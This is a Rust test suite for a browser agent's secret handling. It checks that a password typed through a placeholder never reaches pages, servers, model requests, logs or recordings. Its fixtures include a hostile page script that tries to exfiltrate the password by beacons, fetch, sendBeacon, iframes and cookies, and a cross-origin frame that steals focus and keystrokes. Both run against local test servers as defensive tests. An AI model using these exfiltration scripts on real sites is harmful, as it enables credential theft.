//! Secrets: typed by name where they belong; no page gets them elsewhere, and no output has them.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use navigator::browser::guard::judge::WireGuard;
use navigator::browser::guard::policy::WirePolicy;
use navigator::browser::guard::security_log::SecurityLog;
use navigator::browser::secrets::store::SecretStore;
use navigator::walk::action::ControlOperation;
use navigator::walk::pilot::asked::ModelWalker;
use navigator::walk::report::WalkReport;
use navigator::walk::session::{EffectAnswer, Move, WalkSession as _};
use navigator::walk::state::{self, WalkState};
use navigator::walk::steps::limits::WalkLimits;
use navigator::walk::steps::walk;
use navigator::walk::words::WarningWords;
use navigator::{
    BrowserSession, BrowserWalk, CancelToken, Deadline, Effect, EffectLedger, Ledger, ModelLimits,
    PicoUsd, Price,
};
use serde_json::{Value, json};
use site_map::source::recording::{Recording, RecordingWriter};
use test_support::{Ran, ran, repo, sealed};
use url::Url;

use super::launched;
use super::wire_server::{WireServer, html, within};
use crate::runs::{flags, says};
use crate::scripted_model::Scripted;
use crate::server::Server;

/// Its forms differ in addresses, forms, HTML and JSON.
pub(super) const VALUE: &str = "hun+er&2\"é<k";

/// The forms that no output may have.
fn forms() -> Vec<String> {
    let form: String = url::form_urlencoded::byte_serialize(VALUE.as_bytes()).collect();
    let percent = form.replace('+', "%20");
    let escaped = VALUE.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
    let json = serde_json::to_string(VALUE).unwrap();
    let digits: String = VALUE.bytes().map(|byte| format!("{byte:02x}")).collect();
    let own = [VALUE.to_owned(), form, percent, escaped, json.trim_matches('"').to_owned(), digits];
    let own = own.into_iter().chain([STANDARD.encode(VALUE), "hun+er".to_owned()]);
    own.chain(["hun%2ber".to_owned()]).collect()
}

pub(super) fn assert_has_none(what: &str, text: &str) {
    let lower = text.to_lowercase();
    for form in forms() {
        assert!(!lower.contains(&form.to_lowercase()), "{what} has `{form}`: {text}");
    }
}

/// All that the files of a folder have, recordings unpacked.
pub(super) fn assert_no_file_has_it(folder: &Path) {
    let mut n_files = 0;
    for entry in fs::read_dir(folder).unwrap().map(Result::unwrap) {
        let path = entry.path();
        if path.is_dir() {
            assert_no_file_has_it(&path);
            continue;
        }
        n_files += 1;
        let name = path.display().to_string();
        assert_has_none(&name, &String::from_utf8_lossy(&fs::read(&path).unwrap()));
        if name.ends_with(".warc.gz") {
            let recording = Recording::open(&path).unwrap();
            for (address, _) in recording.addresses() {
                let page = recording.response(&address.parse().unwrap()).unwrap().unwrap();
                assert_has_none(&name, &format!("{address} {:?}", page.headers));
                assert_has_none(&name, &String::from_utf8_lossy(&page.body));
            }
        }
    }
    assert!(n_files > 0, "{} is empty", folder.display());
}

struct SecretPage {
    session: BrowserSession,
    told: Vec<String>,
    /// The answer to every question, and the last of them.
    answer: EffectAnswer,
    asked: Effect,
}

/// Opens a page that may have the secret, and others that may be read.
fn open(start: &Url, policy: WirePolicy, folder: &Path) -> Option<SecretPage> {
    let store = SecretStore::default();
    store.add("pw", VALUE, &[start.join("/").unwrap()]).unwrap();
    let log = SecurityLog::open(&folder.join("security.jsonl")).unwrap();
    let guard = WireGuard::new(policy.with_named(start).with_secrets(store), Some(log));
    let browser = launched(guard)?;
    let recording = RecordingWriter::create(&folder.join("walk.warc.gz")).unwrap();
    let walk = BrowserWalk {
        start: start.clone(),
        named_hosts: BTreeSet::new(),
        words: WarningWords::none(),
        files: Vec::new(),
        recording: Some(recording),
    };
    let session = BrowserSession::new(browser, walk);
    let mut page = SecretPage::new(session);
    page.go(&Move::Start);
    Some(page)
}

impl SecretPage {
    fn new(session: BrowserSession) -> SecretPage {
        let (answer, asked) = (EffectAnswer::No, Effect::None);
        SecretPage { session, told: Vec::new(), answer, asked }
    }

    fn go(&mut self, step: &Move) -> String {
        let deadline = Deadline::new(None, CancelToken::new());
        let mut moved = self.session.go(step, &deadline).unwrap();
        while let Some(effect) = moved.question {
            self.asked = effect;
            moved = self.session.answer(self.answer, &deadline).unwrap();
        }
        self.told.push(format!("{}, {:?}, {:?}", moved.result, self.asked, moved.stopped));
        format!("{}{}", if moved.is_done() { "" } else { "no: " }, moved.result)
    }

    fn step(&self, label: &str, operation: Option<ControlOperation>) -> Move {
        let screen = self.session.screen();
        let at = screen.entries.iter().position(|entry| entry.label == label);
        let number = at.unwrap_or_else(|| panic!("no {label} in {screen:#?}")) + 1;
        operation.map_or(Move::Click(number), |operation| Move::Operate(number, operation))
    }

    fn fill(&mut self, label: &str, text: &str) -> String {
        let text = text.to_owned();
        self.go(&self.step(label, Some(ControlOperation::Fill { text })))
    }

    /// Nothing that was shown, told, kept or stopped has the secret.
    fn assert_keeps_it(self, folder: &Path) {
        for told in &self.told {
            assert_has_none("a result", told);
        }
        assert_has_none("the screen", &format!("{:?}", self.session.screen()));
        assert_has_none("the guard", &format!("{:?}", self.session.browser().guard()));
        drop(self);
        assert_no_file_has_it(folder);
    }
}

const PLACEHOLDER: &str = "{{secret:pw}}";
const LOG_IN: &str = "<form method=post action=/login><label>User <input name=user></label>
    <label>Password <input type=password name=pw></label><button>Go</button></form>";

fn log_in_server(method: &'static str) -> WireServer {
    WireServer::start(move |_| {
        Box::new(move |path| match path {
            "/" => Some(html(&LOG_IN.replace("method=post", &format!("method={method}")))),
            path if path.starts_with("/login") => Some(html("<h1>Welcome</h1>")),
            _ => None,
        })
    })
}

#[test]
fn a_secret_is_typed_by_its_name_and_sent_after_a_yes_alone() {
    let (server, folder) = (log_in_server("post"), repo(""));
    let start: Url = server.url("/").parse().unwrap();
    let Some(mut page) = open(&start, WirePolicy::nothing(), folder.path()) else { return };
    assert_eq!(page.fill("User", PLACEHOLDER), "field 'User' is now '{{secret:pw}}'");
    assert_eq!(page.fill("Password", PLACEHOLDER), "field 'Password' is now filled");
    let unknown = page.fill("User", "{{secret:pin}}");
    assert_eq!(unknown, "no: there is no secret `pin` (there is `{{secret:pw}}`)");
    let press = page.step("User", Some(ControlOperation::Press { keys: PLACEHOLDER.to_owned() }));
    assert!(page.go(&press).contains("`press` types no secrets: write {{secret:pw}} into a field"));
    let go = page.step("Go", None);
    let stopped = page.go(&go);
    let form: String = url::form_urlencoded::byte_serialize(VALUE.as_bytes()).collect();
    // The page says nothing of its encoding, so it is an old one.
    let form = form.replace("%C3%A9", "%E9");
    let body = format!("user={form}&pw={form}");
    let n_bytes = body.len();
    let sent = format!("POST /login (fields: user, pw; {n_bytes} bytes; with the secret `pw`)");
    assert!(stopped.contains(&sent), "{stopped}");
    assert_eq!(server.sent(), []);
    let Effect::Sends { what, .. } = &page.asked else { panic!("no question") };
    assert_eq!(*what, sent);
    page.answer = EffectAnswer::Yes;
    assert!(page.go(&go).contains("Welcome"));
    assert_eq!(server.sent(), [("POST /login".to_owned(), body)]);
    let text = format!("{:?}", page.session.screen());
    assert!(text.contains("Welcome"), "{text}");
    page.assert_keeps_it(folder.path());
}

#[test]
fn a_form_that_is_sent_by_get_needs_a_yes_or_a_rule_for_exactly_that() {
    let (server, folder) = (log_in_server("get"), repo(""));
    let start: Url = server.url("/").parse().unwrap();
    let below = format!("GET:{}", server.url("/")).parse().unwrap();
    let policy = WirePolicy::nothing().with_rule(below);
    let Some(mut page) = open(&start, policy, folder.path()) else { return };
    page.fill("Password", PLACEHOLDER);
    let go = page.step("Go", None);
    let stopped = page.go(&go);
    assert!(stopped.contains("GET /login (fields: user, pw; with the secret `pw`)"), "{stopped}");
    assert!(matches!(page.asked, Effect::Sends { .. }));
    page.answer = EffectAnswer::Yes;
    assert_eq!(server.arrived().len(), 1, "the first page");
    assert!(page.go(&go).contains("Welcome"));
    assert!(server.arrived()[1].0.contains("pw=hun%2Ber"), "{:?}", server.arrived());
    page.assert_keeps_it(folder.path());

    let folder = repo("");
    let exact = format!("GET:{}", server.url("/login")).parse().unwrap();
    let policy = WirePolicy::nothing().with_rule(exact);
    let Some(mut page) = open(&start, policy, folder.path()) else { return };
    page.fill("Password", PLACEHOLDER);
    let go = page.step("Go", None);
    assert!(page.go(&go).contains("Welcome"));
    page.assert_keeps_it(folder.path());
}

/// What a page can do with a value that it was given.
const ECHO: &str = r#"<label>Password <input id=pw></label> <p id=out></p>
<input id=more aria-label=More><a id=link href=#>Link</a> <button id=go>Show</button>
<button id=pop>Pop</button>
<label>List <select id=list><option>none</select></label>
<script>
const value = () => pw.value;
const forms = () => [value(), encodeURIComponent(value()), JSON.stringify(value()),
    btoa(unescape(encodeURIComponent(value()))), btoa(unescape(encodeURIComponent('a' + value()))),
    [...new TextEncoder().encode(value())].map(b => b.toString(16).padStart(2, 0)).join('')];
pop.onclick = () => open('/popup?p=' + encodeURIComponent(value()));
go.onclick = () => {
    const quietly = action => { try { action(); } catch {} };
    out.innerHTML = '';
    out.append(...forms().flatMap(form => [form, document.createElement('br')]));
    const half = document.createElement('b');
    half.textContent = value().slice(0, 5);
    out.append(half, value().slice(5));
    more.value = 'x' + value() + 'x';
    link.textContent = 'to ' + value();
    link.href = '/x?p=' + encodeURIComponent(value());
    list.innerHTML = '';
    list.append(new Option('z'.repeat(150) + value()));
    document.title = 'T ' + value();
    for (const form of forms()) {
        const escaped = encodeURIComponent(form);
        for (const one of [escaped, escaped.replaceAll('%20', '+')]) {
            new Image().src = '/image?p=' + one;
            new Image().src = FOREIGN + '/image?p=' + one;
            fetch('/fetch/' + one).catch(() => 0);
            fetch('/head', { method: 'HEAD', headers: { 'x-p': one } }).catch(() => 0);
            fetch('/post', { method: 'POST', body: form }).catch(() => 0);
            fetch(FOREIGN + '/post', { method: 'POST', body: form, mode: 'no-cors' })
                .catch(() => 0);
            quietly(() => navigator.sendBeacon(FOREIGN + '/post', form));
            const frame = document.createElement('iframe');
            frame.src = FOREIGN + '/frame#' + one;
            frame.hidden = true;
            document.body.append(frame);
        }
    }
    fetch('http://' + forms().at(-1) + '.test/').catch(() => 0);
    fetch(FOREIGN + '/blob', { method: 'POST', mode: 'no-cors', body: new Blob([value()]) })
        .catch(() => 0);
    document.cookie = 'p=' + encodeURIComponent(value());
    new Image().src = '/cookie';
    alert('It is ' + value()); alert('y'.repeat(292) + value());
    history.pushState(0, '', '/state/' + encodeURIComponent(value()) + '?p='
        + encodeURIComponent(value()) + '#' + encodeURIComponent(value()));
    new Image().src = '/referer';
};
</script>"#;

#[test]
fn a_page_that_gives_the_secret_away_finds_no_way_out() {
    let foreign = WireServer::start(|_| Box::new(|_| Some(html("<p>other"))));
    // Another origin that may be read and sent to.
    let away = format!("http://localhost:{}", foreign.port);
    let echo = ECHO.replace("FOREIGN", &format!("'{away}'"));
    let server = WireServer::start(|_| Box::new(move |path| (path == "/").then(|| html(&echo))));
    let (start, folder): (Url, _) = (server.url("/").parse().unwrap(), repo(""));
    let policy = WirePolicy::nothing()
        .with_named(&away.parse().unwrap())
        .with_rule(format!("POST:{away}/").parse().unwrap());
    let Some(mut page) = open(&start, policy, folder.path()) else { return };
    // What is not asked about again is remembered, and must not have it either.
    page.answer = EffectAnswer::Never;
    page.fill("Password", PLACEHOLDER);
    let show = page.step("Show", None);
    let told = page.go(&show);
    assert!(told.contains("the page said 'It is {{secret:pw}}'"), "{told}");
    assert!(told.contains("never sent to localhost:"), "{told}");
    assert!(page.told[2].contains("host: \"{{secret:pw}}.test\""), "{}", page.told[2]);
    page.go(&Move::Operate(0, ControlOperation::Wait { text: PLACEHOLDER.to_owned() }));
    let screen = page.session.screen();
    let text = format!("{screen:#?}");
    assert!(screen.address.contains("secret:pw"), "{}", screen.address);
    assert!(screen.title.contains(PLACEHOLDER), "{}", screen.title);
    assert!(text.matches("{{secret:pw}}").count() > 12, "{text}");
    let pop = page.step("Pop", None);
    let told = page.go(&pop);
    assert!(told.contains("GET /popup (fields: p; with the secret `pw`)"), "{told}");
    std::thread::sleep(std::time::Duration::from_millis(500));
    for server in [&server, &foreign] {
        assert_has_none("the wire", &server.heads());
        assert_has_none("the wire", &format!("{:?}", server.arrived()));
        assert!(!server.heads().contains("POST"), "{}", server.heads());
    }
    for attempt in page.session.browser().guard().refused().attempts {
        assert_has_none("an attempt", &format!("{attempt:?}"));
    }
    page.assert_keeps_it(folder.path());
}

/// A page with a frame of another origin that takes the focus whenever it can.
#[test]
fn a_frame_of_another_origin_gets_nothing() {
    let thief = "<label>Code <input id=i></label><script>
        setInterval(() => i.focus(), 1); i.oninput = () => fetch('/got/' + i.value.length);
        onkeydown = () => fetch('/got/key');</script>";
    let foreign = WireServer::start(|_| Box::new(move |_| Some(html(thief))));
    let away = format!("http://localhost:{}", foreign.port);
    let top = format!(
        "<label>Password <input id=p></label> <p id=out></p><iframe src='{away}/'></iframe>
        <script>p.oninput = () => out.textContent = 'has ' + p.value.length</script>"
    );
    let server = WireServer::start(|_| Box::new(move |path| (path == "/").then(|| html(&top))));
    let (start, folder): (Url, _) = (server.url("/").parse().unwrap(), repo(""));
    let policy = WirePolicy::nothing().with_named(&away.parse().unwrap());
    let Some(mut page) = open(&start, policy, folder.path()) else { return };
    let refused = page.fill("Code", PLACEHOLDER);
    let reason = format!("the secret `pw` is not for {away}: it was not typed");
    assert!(refused.contains(&reason), "{refused}");
    let filled = page.fill("Password", PLACEHOLDER);
    assert!(filled.contains(&format!("has {}", VALUE.chars().count())), "{filled}");
    let got = || foreign.arrived().iter().any(|(line, _)| line.contains("/got"));
    assert!(!within(std::time::Duration::from_millis(300), got), "{:?}", foreign.arrived());
    page.assert_keeps_it(folder.path());

    // The field of its own origin in a page of another one is no better place.
    let store = SecretStore::default();
    store.add("pw", VALUE, &[away.parse().unwrap()]).unwrap();
    let policy = WirePolicy::nothing().with_named(&start).with_named(&away.parse().unwrap());
    let Some(browser) = launched(WireGuard::new(policy.with_secrets(store), None)) else { return };
    let (named_hosts, words) = (BTreeSet::new(), WarningWords::none());
    let walk = BrowserWalk { start, named_hosts, words, files: Vec::new(), recording: None };
    let mut page = SecretPage::new(BrowserSession::new(browser, walk));
    page.go(&Move::Start);
    let refused = page.fill("Code", PLACEHOLDER);
    let around = server.url("");
    assert!(refused.contains(&format!("is not for {around}: it was not typed")), "{refused}");
    assert!(!got(), "{:?}", foreign.arrived());
}

#[test]
fn a_field_that_writes_the_secret_in_its_own_way_is_masked_or_cleared() {
    let form = "<label>Card <input id=c></label><label>Short <input id=s maxlength=8></label>
        <label>Text <div contenteditable id=t>old</div></label>
        <script>c.oninput = () => c.value = c.value.replace(/(.{3})/g, '$1 ').trim()</script>";
    let server = WireServer::start(|_| Box::new(move |_| Some(html(form))));
    let (start, folder): (Url, _) = (server.url("/").parse().unwrap(), repo(""));
    let Some(mut page) = open(&start, WirePolicy::nothing(), folder.path()) else { return };
    assert_eq!(page.fill("Card", PLACEHOLDER), "field 'Card' is now '{{secret:pw}}'");
    assert_eq!(
        page.fill("Short", PLACEHOLDER),
        "no: the field takes the beginning of the secret alone: it was cleared"
    );
    let text = page.fill("Text", PLACEHOLDER);
    assert!(text.contains(PLACEHOLDER) && !text.contains("old{{"), "{text}");
    page.assert_keeps_it(folder.path());
}

#[test]
fn a_model_knows_the_names_and_no_request_has_a_value() {
    let (server, folder) = (log_in_server("post"), repo(""));
    let start: Url = server.url("/").parse().unwrap();
    let rule = format!("POST:{}", server.url("/login")).parse().unwrap();
    let policy = WirePolicy::nothing().with_rule(rule);
    let Some(mut page) = open(&start, policy, folder.path()) else { return };
    let answers = vec![
        reply("fill", "Password", "{{secret:pass}}"),
        reply("dialog", "", PLACEHOLDER),
        reply("fill", "User", PLACEHOLDER),
        reply("fill", "Password", PLACEHOLDER),
        reply("click", "Go", ""),
        json!({ "action": "finish", "answer": "logged in" }),
    ];
    let asked = Arc::new(Mutex::new(Vec::new()));
    let model = Scripted { answers, asked: Arc::clone(&asked) };
    let mut journal: Vec<String> = Vec::new();
    let ledger = Ledger::new(PicoUsd::DEFAULT_LIMIT, Price::default(), &[], &mut journal);
    let (limits, tell) = (ModelLimits::default(), Box::new(|_: &str| {}));
    let mut pilot = ModelWalker::new(Box::new(model), ledger, limits, tell);
    let (goal, limits, new) = ("log in", WalkLimits::default(), WalkState::first());
    let effects = EffectLedger::default();
    let walked = walk(&mut page.session, goal, new, &mut pilot, &limits, effects, &mut ()).unwrap();
    drop(pilot);
    let requests = asked.lock().unwrap();
    assert!(requests[0].stable.contains("the person gave: `{{secret:pw}}`"), "{:?}", requests[0]);
    assert!(requests[1].turn.contains("there is no secret `pass`"), "{:?}", requests[1]);
    assert!(requests[2].turn.contains("`dialog` types no secrets"), "{:?}", requests[2]);
    for request in requests.iter() {
        assert_has_none("a request", &format!("{} {}", request.stable, request.turn));
    }
    assert_eq!(server.sent().len(), 1, "{:?}", walked.state.path);
    assert_has_none("the state", &state::to_json(&walked.state));
    let report = serde_json::to_string(&WalkReport::of(&walked, goal)).unwrap();
    assert_has_none("the report", &report);
    page.assert_keeps_it(folder.path());
}

/// A reply that operates a control.
pub(super) fn reply(action: &str, target: &str, value: &str) -> Value {
    json!({ "reasoning": "r", "action": action, "target": target, "value": value })
}

/// Runs the program with a secret in its environment.
fn browsed(home: &Path, secret: &str, value: &str, args: &[&str]) -> Ran {
    let navigator = sealed(env!("CARGO_BIN_EXE_navigator"));
    let mut command = navigator.command(home);
    command.env("PW", value).args(["browse", "--goal", "log in", "--secret", secret]);
    ran(command.args(args).output().unwrap())
}

#[test]
fn the_program_types_a_secret_and_no_file_and_no_stream_has_it() {
    let Some(browser) = launched(super::guard(&[])) else { return };
    drop(browser);
    let (server, at) = (log_in_server("post"), repo(""));
    let finish = json!({ "reasoning": "r", "action": "finish", "answer": "done" });
    let model = Server::start(
        [
            reply("fill", "User", PLACEHOLDER),
            reply("fill", "Password", PLACEHOLDER),
            reply("click", "Go", ""),
            finish,
        ]
        .iter()
        .map(|answer| says(answer, 10, 10))
        .collect(),
    );
    let (start, rule) = (server.url("/"), format!("POST:{}", server.url("/login")));
    let mut args = vec![start.as_str(), "--browser", "--allow", &rule, "--events", "--out", "run"];
    let model_flags = flags(&model);
    args.extend(model_flags.iter().map(String::as_str));
    args.extend(["--format", "json", "--max-requests", "20"]);
    let walked = browsed(at.path(), "pw=env:PW", VALUE, &args);
    assert_eq!(walked.code, 0, "{}{}", walked.stdout, walked.stderr);
    assert_eq!(server.sent().len(), 1, "{}", walked.stderr);
    assert!(server.sent()[0].1.contains("pw=hun%2Ber"), "{:?}", server.sent());
    assert!(walked.stderr.contains("fill 2 'Password' with '{{secret:pw}}'"), "{}", walked.stderr);
    assert_has_none("standard output", &walked.stdout);
    assert_has_none("standard error", &walked.stderr);
    for request in model.received() {
        assert_has_none("a request", &request.body);
        let stands = |text: &Value| text.to_string().contains("{{secret:pw}}");
        assert!(stands(&request.json()), "{}", request.body);
    }
    assert_no_file_has_it(&at.path().join("run"));
}

#[test]
fn a_wrong_secret_is_an_error_that_names_the_flag_and_has_no_value() {
    let at = repo("=== pw.txt\nab\n=== empty.txt\n");
    let fails = |secret: &str, value: &str| {
        let args = ["http://127.0.0.1:9/", "--browser"];
        let ran = browsed(at.path(), secret, value, &args);
        assert_eq!(ran.code, 2, "{secret}: {}", ran.stderr);
        let last = ran.stderr.lines().filter(|line| line.contains("--secret")).collect::<String>();
        let has_value = !value.is_empty() && last.contains(value) || last.contains("hunter9");
        assert!(!has_value, "{last}");
        last
    };
    for (secret, value, expected) in [
        ("hunter9", "hunter2", "this is not a secret (`NAME=env:VAR` or `NAME=file:PATH`"),
        ("pw=hunter9", "hunter2", "`pw=…` is not a secret (`NAME=env:VAR`"),
        ("pw=env:NONE", "hunter2", "the variable `NONE` of the secret `pw` is not set"),
        ("pw=env:PW", "", "the value of the secret `pw` is empty"),
        ("pw=file:empty.txt", "hunter2", "the value of the secret `pw` is empty"),
        ("pw=env:PW", "q7#", "the value of the secret `pw` has fewer than 4 characters"),
        ("pw=file:pw.txt", "hunter2", "the value of the secret `pw` has fewer than 4 characters"),
        ("pw=file:none.txt", "hunter2", "the file `none.txt` of the secret `pw`: "),
        ("p w=env:PW", "hunter2", "`p w` is not a name"),
        ("pw=env:PW@https://a.example/in", "hunter2", "is not an origin"),
        ("pw=env:PW@https://", "hunter2", "`https://` is not an origin"),
    ] {
        let error = fails(secret, value);
        assert!(error.contains(expected), "{secret}: {error}");
    }
    let twice = &["http://127.0.0.1:9/", "--browser", "--secret", "pw=env:PW"];
    let twice = browsed(at.path(), "pw=env:PW", "hunter2", twice);
    assert!(twice.stderr.contains("there are two secrets `pw`"), "{}", twice.stderr);
    let without = browsed(at.path(), "pw=env:PW", "hunter2", &["http://127.0.0.1:9/"]);
    assert!(without.stderr.contains("--browser"), "{}", without.stderr);
}
